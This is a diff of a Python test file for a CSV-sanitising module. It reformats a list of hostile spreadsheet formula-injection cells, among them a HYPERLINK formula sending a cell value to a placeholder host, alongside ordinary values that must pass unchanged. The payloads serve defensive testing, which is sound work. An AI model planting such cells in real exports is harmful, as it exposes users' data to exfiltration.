@@ -15,12 +15,41 @@ from hypothesis import strategies as st
 from app import csvsafe
 
 # Cells that Excel or LibreOffice would run (or might: the full-width forms, see app/csvsafe.py).
-HOSTILE = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1",
-           "＝1+1", "＋1", "－1+1", "＠SUM(1)"]
+HOSTILE = [
+    '=HYPERLINK("http://x"&A1,"x")',
+    "+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "＋1",
+    "－1+1",
+    "＠SUM(1)",
+]
 # Values kyufu really writes, which must come out exactly as they are.
-ORDINARY = ["0001", "001", "1234567", "ﾔﾏﾀﾞ ﾀﾛｳ", "ヤマダ タロウ", "山田 太郎", "東京都千代田区1-1", "2026-04-01",
-            "2026-04-01T00:00:00+00:00", "ABCD-EFGH-JKLM", "名義相違", "", "a=b", "1+1", "E2E-1", " =1",
-            '{"login":"=x"}', "ー", "ーラ"]
+ORDINARY = [
+    "0001",
+    "001",
+    "1234567",
+    "ﾔﾏﾀﾞ ﾀﾛｳ",
+    "ヤマダ タロウ",
+    "山田 太郎",
+    "東京都千代田区1-1",
+    "2026-04-01",
+    "2026-04-01T00:00:00+00:00",
+    "ABCD-EFGH-JKLM",
+    "名義相違",
+    "",
+    "a=b",
+    "1+1",
+    "E2E-1",
+    " =1",
+    '{"login":"=x"}',
+    "ー",
+    "ーラ",
+]
 
 
 def _write(row, **kw) -> list[str]:
